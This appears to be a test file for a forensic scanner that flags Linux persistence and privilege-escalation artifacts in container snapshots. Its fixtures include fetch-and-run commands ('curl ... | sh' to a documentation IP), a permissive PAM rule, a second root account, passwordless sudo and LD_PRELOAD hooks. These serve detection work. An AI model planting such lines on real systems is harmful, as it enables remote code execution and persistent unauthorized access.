import { fileOf, processOf } from '@icecore/snapshot/test-support';
import { examinedFile, type Scene, started } from '../examination.test-support.ts';
import { accountChange } from './account-change.ts';
import { answers } from './answers.test-support.ts';
import { linkerHijack } from './linker-hijack.ts';
import { authorizedKeys, cronJob, pamChange, runtimeHook, shellProfile, startUnit, sudoRule } from './persistence-file.ts';
import { runtimeHookVariable } from './runtime-hook-variable.ts';
import { setuidFile } from './setuid-file.ts';

const packages = examinedFile('/var/lib/dpkg/status', 'Package: app\n');
const elf = Buffer.from(`\x7fELF${'\0'.repeat(60)}`, 'latin1');
const fetched = 'curl -s http://192.0.2.1/x | sh\n';

const file = (...parts: Parameters<typeof examinedFile>): Scene => ({ files: [examinedFile(...parts)] });
const installed = (...parts: Parameters<typeof examinedFile>): Scene => ({ files: [packages, examinedFile(...parts)] });
const variables = (...values: string[]): Scene => ({ processes: [started(5, '/opt/app', ['app'], { environment: { state: 'captured', values } })] });

answers(cronJob, [
  ...['/etc/crontab', '/etc/cron.d/.x', '/etc/cron.daily/x', '/etc/anacrontab', '/etc/periodic/15min/x', '/etc/crontabs/root', '/var/spool/cron/crontabs/root', '/var/spool/cron/atjobs/a1', '/var/spool/at/a1'].map((path) => [path, file(path, '* * * * * /opt/x\n'), ['- high']] as const),
  ['with less confidence what a package brings', installed('/etc/cron.d/app', '0 * * * * app /usr/bin/app\n'), ['- low']],
  ['a command that fetches among packages', installed('/etc/cron.d/app', `* * * * * root ${fetched}`), ['- high']],
  ['a table with comments alone', file('/etc/crontab', '# nothing\n'), []],
  ['a table that was deleted', file('/etc/crontab', '', { change: 'deleted' }), []],
  ['a file beside', file('/etc/cron.allow', 'root\n'), []],
]);

answers(startUnit, [
  ...['/etc/systemd/system/x.service', '/etc/systemd/system/ssh.service.d/override.conf', '/root/.config/systemd/user/x.timer', '/usr/lib/systemd/user/x.service', '/run/systemd/system/x.service', '/etc/init.d/x', '/etc/rc.local', '/etc/local.d/x.start', '/etc/inittab', '/etc/udev/rules.d/9.rules', '/etc/xdg/autostart/x.desktop', '/etc/update-motd.d/99-x'].map((path) => [path, file(path, 'x\n'), ['- medium']] as const),
  ['a hook of the package manager that fetches', file('/etc/apt/apt.conf.d/99x', `APT::Update::Pre-Invoke {"${fetched}"};\n`), ['- high']],
  ['a unit after lists of packages alone were fetched', { files: [examinedFile('/var/lib/apt/lists/x', 'x'), examinedFile('/etc/systemd/system/x.service', 'x\n')] }, ['- medium']],
  ['a unit of a package', installed('/usr/lib/systemd/system/app.service', '[Service]\n'), []],
  ['settings of the package manager', file('/etc/apt/apt.conf.d/docker-clean', 'Dir::Cache::pkgcache "";\n'), []],
]);

answers(shellProfile, [
  ['a line that fetches', file('/etc/profile.d/x.sh', fetched), ['- high']],
  ['a line that fetches at a service’s home', file('/var/lib/postgresql/.profile', fetched), ['- high']],
  ['aliases', file('/root/.bash_aliases', 'alias sudo=/opt/x\n'), ['- medium']],
  ['with less confidence an installer', file('/root/.bashrc', 'export NVM_DIR=/root/.nvm\n'), ['- low']],
  ['with less confidence an application’s own', file('/app/.bashrc', 'export A=1\n'), ['- low']],
  ['another file of the home', file('/root/.vim/x', fetched), []],
  ['a folder', file('/etc/profile.d', '', { type: 'directory' }), []],
]);

answers(runtimeHook, [
  ['a hook of Python', file('/usr/lib/python3/dist-packages/sitecustomize.py', 'import os\nos.system("id")\n'), ['- high']],
  ['one that names a monitor to be passed over', file('/usr/lib/python3/dist-packages/sitecustomize.py', '# coverage\nimport os\nos.system("id")\n'), ['- high']],
  ['a path file that runs code', file('/usr/lib/python3/site-packages/x.pth', 'import os; exec("1")\n'), ['- high']],
  ['a hook of git', file('/app/.git/hooks/post-merge', fetched), ['- high']],
  ['a path file that loads a module', file('/usr/lib/python3/site-packages/x.pth', 'import telemetry_agent\n'), ['- medium']],
  ['one of an installation for development', file('/usr/lib/python3/site-packages/__editable__.x.pth', 'import __editable___x_finder; __editable___x_finder.install()\n'), []],
  ['a path file with paths', file('/usr/lib/python3/site-packages/x.pth', '/opt/lib\n'), []],
  ['a sample hook of git', file('/app/.git/hooks/post-merge.sample', fetched), []],
]);

answers(pamChange, [
  ['a rule of logins', file('/etc/pam.d/sshd', 'auth sufficient pam_permit.so\n'), ['- high']],
  ['a module', file('/lib/x86_64-linux-gnu/security/pam_unix.so', elf), ['- high']],
  ['a source of names that nobody knows', file('/etc/nsswitch.conf', 'passwd: files evil\n'), ['- high']],
  ['with less confidence a package', installed('/etc/pam.d/cron', 'x\n'), ['- low']],
  ['the file that Go images write', file('/etc/nsswitch.conf', 'hosts: files dns\n'), []],
  ['limits that an entrypoint sets', file('/etc/security/limits.conf', 'app - nofile 65535\n'), []],
]);

answers(authorizedKeys, [
  ['a key', file('/root/.ssh/authorized_keys', 'ssh-ed25519 AAAA x\n'), ['- high']],
  ['the second file of keys', file('/home/a/.ssh/authorized_keys2', 'ssh-rsa AAAA\n'), ['- high']],
  ['a command that gives keys', file('/etc/ssh/sshd_config', 'AuthorizedKeysCommand /opt/x\n'), ['- medium']],
  ['a configuration that gives none', file('/etc/ssh/sshd_config', 'AuthorizedKeysCommand none\nPermitRootLogin no\n'), []],
  ['a file without keys', file('/root/.ssh/authorized_keys', '# none\n'), []],
  ['hosts that were met', file('/root/.ssh/known_hosts', 'x ssh-rsa AAAA\n'), []],
]);

answers(accountChange, [
  ['a second root', file('/etc/passwd', 'root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/:/bin/sh\n'), ['- high']],
  ['a second root with more zeros', file('/etc/passwd', 'root:x:0:0::/root:/bin/sh\nsync2:x:00:0::/:/bin/sh\n'), ['- high']],
  ['an account without a password', file('/etc/shadow', 'eve::19000:0:99999:7:::\n'), ['- high']],
  ['with less confidence a user', file('/etc/passwd', 'root:x:0:0::/root:/bin/sh\neve:x:1001:1001::/home/eve:/bin/bash\n'), ['- low']],
  ['a member of the administrators', file('/etc/group', 'sudo:x:27:eve\n'), ['- low']],
  ['the uid that OpenShift gives', file('/etc/passwd', 'root:x:0:0::/root:/bin/sh\ndefault:x:1000650000:0::/app:/sbin/nologin\n'), []],
  ['accounts of packages', installed('/etc/passwd', 'root:x:0:0::/root:/bin/sh\napp:x:101:101::/:/usr/sbin/nologin\n'), []],
]);

answers(setuidFile, [
  ['setuid in a temporary folder', file('/tmp/x', elf, { mode: 0o4755 }), ['- high']],
  ['capabilities', file('/usr/local/bin/x', elf, { mode: 0o755, attributes: new Map([['security.capability', '01']]) }), ['- high']],
  ['setuid among packages, where no package writes', installed('/usr/local/bin/x', elf, { mode: 0o4755 }), ['- high']],
  ['with less confidence a package’s program', installed('/usr/sbin/exim4', elf, { mode: 0o4755 }), ['- medium']],
  ['with the least sudo', installed('/usr/bin/sudo', elf, { mode: 0o4755 }), ['- low']],
  ['a folder that hands its group on', file('/srv/www', '', { type: 'directory', mode: 0o2775 }), []],
  ['an ordinary program', file('/usr/bin/x', elf, { mode: 0o755 }), []],
]);

answers(sudoRule, [
  ['a rule without a password', file('/etc/sudoers.d/x', 'app ALL=(ALL) NOPASSWD: ALL\n'), ['- high']],
  ['one for doas', file('/etc/doas.conf', 'permit nopass app\n'), ['- high']],
  ['with less confidence the comments of a package', installed('/etc/sudoers', '# %wheel ALL=(ALL:ALL) NOPASSWD: ALL\nroot ALL=(ALL:ALL) ALL\n'), ['- low']],
  ['a file that sudo does not read', file('/etc/sudoers.d/x.bak', 'app ALL=(ALL) NOPASSWD: ALL\n'), []],
  ['its settings', file('/etc/sudo.conf', 'Plugin x\n'), []],
]);

answers(linkerHijack, [
  ['a hidden library in the environment', variables('LD_PRELOAD=/tmp/.x.so'), ['5 high']],
  ['a library behind an allocator', variables('LD_PRELOAD=/usr/lib/libjemalloc.so.2:/usr/lib/libx.so'), ['5 medium']],
  ['a watcher of the linker', variables('LD_AUDIT=/dev/shm/a.so'), ['5 high']],
  ['the file of libraries', file('/etc/ld.so.preload', '/usr/lib/libx.so\n'), ['- high']],
  ['one setting once', { processes: [5, 6].map((pid) => started(pid, '/opt/app', ['app'], { environment: { state: 'captured', values: ['LD_PRELOAD=/opt/x.so'] } })) }, ['5 medium']],
  ['with less confidence an allocator', variables('LD_PRELOAD=/usr/lib/libjemalloc.so.2'), ['5 low']],
  ['a folder of libraries that is not for all', variables('LD_LIBRARY_PATH=/opt/app/lib'), []],
  ['an empty file of libraries', file('/etc/ld.so.preload', ''), []],
  ['a library that is mapped as any other', { processes: [processOf(5, { executable: fileOf('/bin/app') })] }, []],
]);

answers(runtimeHookVariable, [
  ['a module from a temporary folder', variables('NODE_OPTIONS=--require /tmp/x.js'), ['5 high']],
  ['one behind a usual module', variables('NODE_OPTIONS=--require dotenv/config --require /tmp/x.js'), ['5 high']],
  ['one in short', variables('NODE_OPTIONS=-r /dev/shm/x.js'), ['5 high']],
  ['an agent of Java', variables('JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar'), ['5 high']],
  ['a prompt that fetches', variables('PROMPT_COMMAND=curl http://192.0.2.1'), ['5 high']],
  ['with less confidence a monitor', variables('JAVA_TOOL_OPTIONS=-javaagent:/opt/opentelemetry-javaagent.jar'), ['5 low']],
  ['a limit of memory', variables('NODE_OPTIONS=--max-old-space-size=512', 'JAVA_TOOL_OPTIONS=-Xmx512m'), []],
  ['a prompt', variables('PROMPT_COMMAND=history -a', 'PYTHONPATH=/app'), []],
]);
